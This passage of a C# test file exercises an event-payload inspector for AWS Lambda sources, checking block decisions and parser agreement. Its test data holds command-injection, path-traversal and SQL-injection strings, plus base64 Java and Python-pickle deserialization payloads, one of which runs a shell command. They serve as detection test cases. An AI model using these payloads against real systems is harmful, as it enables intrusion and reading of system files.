            var frame = (round % 5) switch { 0 => "[{0},\"{1}\"]", 1 => "{{\"a\":{{\"items\":[{0}]}},\"x\":\"{1}\"}}", 2 => "{{\"Records\":[{{\"eventSource\":\"aws:kinesis\"}},{0}],\"x\":\"{1}\"}}", 3 => "{{\"eventSource\":\"aws:kafka\",\"records\":{{\"t-0\":[{0}]}},\"x\":\"{1}\"}}", _ => "{{\"deliveryStreamArn\":\"arn:aws:kinesis\",\"invocationId\":\"1\",\"records\":[{0}],\"x\":\"{1}\"}}" };
            Differs(Encoding.UTF8.GetBytes(string.Format(System.Globalization.CultureInfo.InvariantCulture, frame, string.Join(", ", elements), new string('x', 5000)))).ShouldBeNull();
        }
    }

    [Fact]
    public void Bodies_that_are_no_text_give_their_printable_parts_and_no_alarms_by_chance()
    {
        var random = new Random(13);
        var found = 0;
        for (var round = 0; round < 1500; round++)
        {
            var bytes = new byte[random.Next(64, 20_000)];
            random.NextBytes(bytes);
            var quiet = Encoded(bytes);
            Differs(quiet).ShouldBeNull();
            Inspector.Inspect(quiet).Signals.ShouldBeEmpty();

            var attack = Attacks[round % Attacks.Length];
            Encoding.ASCII.GetBytes($"\r\n\r\n{attack}\r\n--").CopyTo(bytes.AsSpan(random.Next(bytes.Length - attack.Length - 9)));
            var loud = Encoded(bytes);
            Differs(loud).ShouldBeNull();
            var seen = Inspector.Inspect(loud).Decision == InspectionDecision.Block;
            seen.ShouldBeTrue(attack);
            found++;
        }

        found.ShouldBe(1500);
    }

    [Theory]
    [InlineData("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHCMUcAE/////3QAC2V4YW1wbGUuY29tdAABL3EAfgAFdAAEaHR0cHB4dAABeHg=", true)]
    [InlineData("gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA1jYXQgL2V0Yy9ob3N0lIWUUpQu", true)]
    [InlineData("gASVIgAAAAAAAAB9lCiMBG5hbWWUjARBbm5hlIwEbGlzdJRdlChLAUsCZXUu", false)]
    public void A_body_of_serialised_objects_is_judged_by_what_it_may_call(string body, bool stopped)
    {
        var json = Encoding.UTF8.GetBytes(Framed(Frames[5], "").Replace("\"body\":\"\"", $"\"body\":\"{body}\"", StringComparison.Ordinal));
        Differs(json).ShouldBeNull();
        (Inspector.Inspect(json).Decision == InspectionDecision.Block).ShouldBe(stopped);
    }

    private static readonly string[] Attacks = ["; cat /etc/passwd", "../../../../etc/passwd", "' OR 1=1 --"];

    private static byte[] Encoded(byte[] content) => Encoding.UTF8.GetBytes($"{{\"rawPath\":\"/\",\"isBase64Encoded\":true,\"body\":\"{Convert.ToBase64String(content)}\"}}");

    [Fact]
    public void Both_ways_say_the_same_of_compressed_parts()
    {
        string Lines(int count, string last) => JsonSerializer.Serialize(new { logEvents = Enumerable.Range(0, count).Select(i => new { id = i, message = $"line {i} of \"the\" log" }).Append(new { id = -1, message = last }) });
        byte[] Event(byte[] packed) => Encoding.UTF8.GetBytes($"{{\"awslogs\":{{\"data\":\"{Convert.ToBase64String(packed)}\"}}}}");
        var (one, other) = (Packed(Lines(3000, "; cat /etc/passwd")), Packed("; cat /etc/passwd"));
        byte[] lying = [.. one];
        lying[^2] ^= 1;
        byte[][] parts =
        [
            one, other, Packed(""), Packed(Lines(5, "x")), one[..^1], one[..^9], one[..(one.Length / 2)], one[..12], [0x1f, 0x8b], [0x1f, 0x8b, 8], [.. one, .. other], [.. other, .. one], [.. other, 0, 0, 0, 0, 0, 0, 0, 0], [.. other, 1, 2, 3], lying, [.. one[..^8], .. new byte[8]],
            Packed(new string('a', 3_000_000) + "; cat /etc/passwd"), Packed("{\"a\":\"; cat /etc/passwd\"} x"),
        ];
        foreach (var part in parts)
        {
            Differs(Event(part)).ShouldBeNull();
            Differs(Event(part), new InspectionOptions { MaxUnfolded = 100_000 }).ShouldBeNull();
            Differs(Event(part), new InspectionOptions { MaxTextLength = 150_000 }).ShouldBeNull();
        }

        // The reader is for what is broken.
        var copy = new EventCopy(Event(one));
        var judge = new Inspector.Judge(InspectionOptions.Default, Inspector.Screened);
        new EventWalk(InspectionOptions.Default, copy).Read(judge).ShouldBeTrue();
        judge.Signals.ShouldNotBeEmpty();

        // None is unpacked beyond what all of them together may have.
        var records = string.Join(',', Enumerable.Repeat($$$"""{"eventSource":"aws:kinesis","kinesis":{"data":"{{{Convert.ToBase64String(one)}}}"}}""", 12));
        foreach (var most in new[] { 100_000, 1_000_000, 10_000_000 })
        {
            Differs(Encoding.UTF8.GetBytes($$"""{"Records":[{{records}}]}"""), new InspectionOptions { MaxUnfolded = most }).ShouldBeNull();
        }
    }

    [Fact]
    public void Both_ways_say_the_same_at_the_limits()
    {
        var many = JsonSerializer.SerializeToUtf8Bytes(Enumerable.Range(0, 40).Select(i => new { a = $"x{i}", b = new[] { "; cat /etc/passwd", "c" }, d = "{\"e\":\"f\",\"g\":[\"h\"]}" }));
        for (var texts = 1; texts < 60; texts++)
        {
            Differs(many, new InspectionOptions { MaxTexts = texts }).ShouldBeNull();
            Differs(many, new InspectionOptions { MaxTextLength = texts }).ShouldBeNull();
        }

        foreach (var depth in new[] { 1, 2, 4, 8, 62, 63, 64, 65, 200 })
        {
            Differs(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":[", depth)) + "\"x;id\"" + string.Concat(Enumerable.Repeat("]}", depth)))).ShouldBeNull();
        }

        var nested = "\"; cat /etc/passwd\"";
        for (var level = 0; level < 9; level++)
        {
            nested = JsonSerializer.Serialize($"{{\"a\":{nested}}}");
            Differs(Encoding.UTF8.GetBytes($"{{\"body\":{nested}}}")).ShouldBeNull();
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("{")]
    [InlineData("{\"a\"")]
    [InlineData("{\"a\":")]
    [InlineData("{\"a\":1")]
    [InlineData("{\"a\":1,}")]
    [InlineData("[1,]")]
    [InlineData("[\"a\"")]
    [InlineData("[\"a]")]
    [InlineData("[\"a\\\"]")]
    [InlineData("[\"\\x\"]")]
    [InlineData("[\"\\u12g4\"]")]
    [InlineData("[\"a\n\"]")]
    [InlineData("{\"a\":01}")]
    [InlineData("{\"a\":-}")]
    [InlineData("{\"a\":1.}")]
    [InlineData("{\"a\":1e}")]
    [InlineData("{\"a\":tru}")]
    [InlineData("{} {}")]
    [InlineData("{\"a\":\"{\\\"b\\\":1,}\"}")]
    [InlineData("{\"a\":\"{\\\"b\\\":1 /* c */}\"}")]
    [InlineData("{\"a\":\"[12:30] hello [x]\"}")]
    [InlineData("{\"requestContext\":{\"identity\":{\"a\":\"]}\\\\\\\"\"}},\"body\":\"; cat /etc/passwd\"}")]
    [InlineData("{\"Records\":{\"eventSource\":\"aws:sqs\"},\"x\":\";id\"}")]
    [InlineData("{\"Records\":[],\"x\":\";id\"}")]
    [InlineData("{\"Records\":[{\"messageId\":\"\\q\",\"eventSource\":\"aws:sqs\",\"body\":\"; cat /etc/passwd\"}]}")]
    [InlineData("{\"Records\":[{\"body\":\"\\q; cat /etc/passwd\",\"eventSource\":\"aws:sqs\"}]}")]
    [InlineData("{\"Records\":[{\"attributes\":{\"SenderId\":\"\\q\"},\"eventSource\":\"aws:sqs\",\"body\":\"; cat /etc/passwd\"}]}")]
    [InlineData("{\"Records\":[{\"body\":\"say \\\"; cat /etc/passwd\",\"eventSource\":\"aws:s\\u0033\"}]}")]
    [InlineData("{\"Records\":[{\"body\":\"; cat /etc/passwd\" \"eventSource\":\"aws:sqs\"}]}")]
    [InlineData("{\"Records\":[{\"body\":\"; cat /etc/passwd\",\"x\":01,\"eventSource\":\"aws:sqs\"}]}")]
    [InlineData("{\"Records\" : [ { \"body\" : \"; cat /etc/passwd\" , \"cf\" : 1 } ] }")]
    [InlineData("{\"Records\":[{\"body\":\"; cat /etc/passwd\"}],\"requestContext\":{\"http\":{}},\"rawPath\":\"/\"}")]
    [InlineData("{\"\\u0052ecords\":[{\"eventSource\":\"aws:sqs\"}],\"\\u0024ne\":{\"$gt\":1},\"__proto__\":{}}")]
    public void Both_ways_say_the_same_of_what_is_odd_or_broken(string json) => Differs(Encoding.UTF8.GetBytes(json)).ShouldBeNull();

    [SharedDataFact("events/benign")]
    public void Both_ways_say_the_same_of_every_sources_events()
    {
        var random = new Random(3);
        foreach (var file in Directory.EnumerateFiles(SharedData.Find("events/benign")!, "*.json"))
        {
            var bytes = File.ReadAllBytes(file);
            Differs(bytes).ShouldBeNull(file);
            for (var round = 0; round < 40; round++)
            {
                // Cut short: no JSON at all, whatever the place. Numbers apart, of which the quick way looks at the first of a list only.
                Differs(bytes[..random.Next(bytes.Length)]).ShouldBeNull(file);
            }
        }
    }

    [SharedDataFact("strings")]
    public void Both_ways_say_the_same_of_public_attacks_and_texts()
    {
        var count = 0;
        foreach (var file in Directory.EnumerateFiles(SharedData.Find("strings")!, "*.jsonl"))
        {
            foreach (var line in File.ReadLines(file))
            {
                using var row = JsonDocument.Parse(line);
                var text = row.RootElement.GetProperty("text").GetString()!;
                MissedBy(text).ShouldBeNull();
                foreach (var frame in Frames)
                {
                    Differs(Encoding.UTF8.GetBytes(Framed(frame, text))).ShouldBeNull();
                    count++;
                }
            }
        }

        output.WriteLine($"{count} events, both ways alike");
    }
}
